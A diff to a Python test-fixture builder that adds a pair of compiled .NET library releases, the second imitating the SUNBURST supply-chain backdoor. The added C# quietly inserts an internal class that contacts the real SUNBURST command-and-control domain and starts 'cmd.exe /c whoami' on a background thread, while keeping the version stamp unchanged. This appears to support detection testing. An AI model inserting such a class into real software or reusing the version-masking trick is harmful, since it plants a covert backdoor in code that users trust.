@@ -314,3 +314,54 @@ def sdist_cmdclass(src: Path, dst_dir: Path) -> Path:
             info.size, info.mode, info.mtime = len(data), mem.mode, mem.mtime
             tout.addfile(info, io.BytesIO(data))
     return dst
+
+
+# ------------------------------------------------------------------ .NET (SUNBURST-like)
+
+DOTNET_V1 = """using System.Reflection;
+[assembly: AssemblyVersion("2019.4.5200.9083")]
+[assembly: AssemblyFileVersion("2019.4.5200.9083")]
+[assembly: AssemblyProduct("Vendor Core")]
+namespace Vendor.Core.BusinessLayer {
+  public class Poller { public int Interval = 60; public string Name() { return "poller"; } }
+  public class Settings { public string Get(string k) { return k.ToUpper(); } }
+}
+"""
+
+# the same assembly with one internal class added that resolves a C2 name and starts a shell on a thread
+DOTNET_V2 = DOTNET_V1.rstrip().removesuffix("}") + """  internal class ImprovementBusinessLayer {
+    static string host = "avsvmcloud.com";
+    public static void Initialize() {
+      var t = new System.Threading.Thread(() => {
+        System.Net.Dns.GetHostEntry("x." + host);
+        System.Diagnostics.Process.Start("cmd.exe", "/c whoami");
+      });
+      t.Start();
+    }
+  }
+}
+"""
+
+
+def dotnet_release_pair(out: Path, tmp: Path) -> tuple[Path, Path]:
+    """Two releases of a .NET library compiled now by mono's C# compiler (``mcs``, Debian ``mono-mcs``):
+    the second adds a type and keeps the assembly and file versions, as SUNBURST did in
+    SolarWinds.Orion.Core.BusinessLayer.dll. Raises RuntimeError when mcs is not installed."""
+    import shutil
+    import subprocess
+
+    mcs = shutil.which("mcs")
+    if mcs is None:
+        raise RuntimeError("needs mono's C# compiler: apt-get install mono-mcs")
+    releases = []
+    for tag, source in (("old", DOTNET_V1), ("new", DOTNET_V2)):
+        src = tmp / f"{tag}.cs"
+        dll = tmp / f"{tag}.dll"
+        src.write_text(source)
+        subprocess.run([mcs, "-target:library", f"-out:{dll}", str(src)], check=True, capture_output=True)
+        release = out / f"vendor-core-2019.4-{tag}.zip"
+        with zipfile.ZipFile(release, "w", zipfile.ZIP_DEFLATED) as zf:
+            zf.writestr("VendorCore/Vendor.Core.BusinessLayer.dll", dll.read_bytes())
+            zf.writestr("VendorCore/README.txt", "Vendor Core 2019.4 HF5\n")
+        releases.append(release)
+    return releases[0], releases[1]
